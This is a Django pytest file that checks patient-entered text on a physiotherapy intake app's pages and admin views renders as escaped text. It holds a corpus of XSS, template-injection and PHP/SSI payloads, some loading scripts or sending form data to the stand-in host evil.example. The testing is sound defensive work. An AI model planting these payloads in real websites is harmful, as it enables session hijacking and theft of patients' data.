"""Whatever patients and staff type is shown as text wherever it is read (R29)."""

import itertools
import re
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from tests.architecture.answers import forbidden_in
from tests.factories import make_evaluation, make_patient, make_response, make_user
from tests.integration.intake.visitor import Visitor, invited, stored

pytestmark = pytest.mark.django_db

# Ways to break out, ways to run, ways to hide both: every pair is tried.
BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</p>",
    "</textarea>",
    "</script>",
    "--></style>",
    "]]>",
    "\u2028",
    "{{",
    "&#34;&gt;",
)
RUNS = (
    "<script>zyx()</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=zyx()>",
    "<svg/onload=zyx()>",
    "<svg><animate onbegin=zyx() attributeName=x dur=1s>",
    "<body onpageshow=zyx()>",
    "<details open ontoggle=zyx()>",
    "<iframe srcdoc='&lt;script&gt;zyx()'>",
    "<a href=javascript:zyx()>x</a>",
    "<a href='java\tscript:zyx()'>x</a>",
    "<form action=//evil.example><input name=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example'</style>",
    "<p style=background:url(//evil.example)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=zyx()>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    " onfocus=zyx() autofocus tabindex=1 ",
    "javascript:zyx()",
    "{% include 'admin/base.html' %}{{ request.user }}",
    "${zyx()}#{zyx()}<%= zyx() %>",
    "<!--#exec cmd='zyx'--><?php zyx() ?>",
)
CORPUS = [before + run for before, run in itertools.product(BREAKS, RUNS)]


def in_pieces(texts: list[str], limit: int) -> list[str]:
    """The texts joined so that each piece fits a field."""
    pieces = [""]
    for text in texts:
        if len(pieces[-1]) + len(text) > limit:
            pieces.append("")
        pieces[-1] += text
    return pieces


def assert_only_text(page: str, calm: str) -> None:
    """No more of any tag, attribute that runs, or address than the same page has with calm words."""
    assert forbidden_in(page) == forbidden_in(calm) == []
    assert tags(page) == tags(calm)


def tags(page: str) -> list[str]:
    return sorted(re.findall(r"<[a-z!/][a-z0-9-]*", page.lower()))


def test_the_corpus_is_large_enough():
    assert len(set(CORPUS)) >= 300


def test_a_patients_words_are_text_on_her_own_pages():
    invitation, token = invited()
    visitor = Visitor(token).open()
    pages = ["/intake/about/", "/intake/life/", "/intake/check/"]
    answer(visitor, "calm", "calm")
    calm = {path: visitor.look(path).text for path in pages}
    stories = in_pieces(CORPUS, 500)
    goals = in_pieces([text for text in CORPUS if len(text) <= 80], 80)
    for number, story in enumerate(stories):
        goal = goals[number % len(goals)]
        answer(visitor, story, goal)
        assert stored(invitation).answers["why.story"] == [story.strip()]
        for path in pages:
            assert_only_text(visitor.look(path).text, calm[path])


def answer(visitor: Visitor, story: str, goal: str) -> None:
    assert visitor.autosave("about", {"why.story": [story]}).status_code == 200
    life = {"activity.usual": ["other"], "activity.other": [goal], "goal.one.activity": [goal]}
    assert visitor.autosave("life", life).status_code == 200


def test_a_patients_words_and_name_are_text_at_the_desk():
    desk, physio = Client(), Client()
    desk.force_login(make_user("front desk"))
    doctor = make_user("physio")
    physio.force_login(doctor)

    def pages(story: str, name: str) -> dict[str, str]:
        person = make_patient(given_name=name, family_name=name)
        answers = {"why.story": [story], "goal.one.activity": [name], "goal.one.score": [3]}
        intake = make_response(answers, evaluation=make_evaluation(patient=person, physio=doctor))
        evaluation = intake.evaluation_id
        found = {}
        for who, client in (("desk", desk), ("physio", physio)):
            for path in (
                reverse("admin:intake_patient_change", args=[person.pk]),
                reverse("admin:intake_evaluation_change", args=[evaluation]),
                f"{reverse('admin:intake_evaluation_add')}?patient={person.pk}",
            ):
                found[f"{who} {path.replace(str(person.pk), '').replace(str(evaluation), '')}"] = client.get(
                    path
                ).text
        review = reverse("admin:intake_questionnaireresponse_review", args=[intake.pk])
        found["review"] = physio.get(review).text
        return found

    calm = pages("calm", "calm")
    stories = in_pieces(CORPUS, 500)
    names = in_pieces([text for text in CORPUS if len(text) <= 80], 80)
    for number in range(0, len(stories), 3):
        shown = pages(stories[number], names[number % len(names)])
        for name, page in shown.items():
            assert_only_text(page, calm[name])


def test_names_are_text_in_lists():
    """Twenty odd names at once on the worklist and in the list of patients."""
    physio = Client()
    physio.force_login(make_user("physio"))
    day = (timezone.localtime() + timedelta(days=1)).replace(hour=9)
    for name in in_pieces([text for text in CORPUS if len(text) <= 80], 80)[:10]:
        patient = make_patient(given_name=name, family_name=name)
        make_response({}, evaluation=make_evaluation(patient=patient, starts_at=day))
    worklist = f"{reverse('admin:intake_evaluation_changelist')}?day={day.date().isoformat()}"
    for path in (worklist, reverse("admin:intake_patient_changelist")):
        page = physio.get(path).text
        assert forbidden_in(page) == []
        assert "zyx()" in page
        assert "evil.example" not in "".join(re.findall(r'(?:src|href|action)="[^"]*"', page))
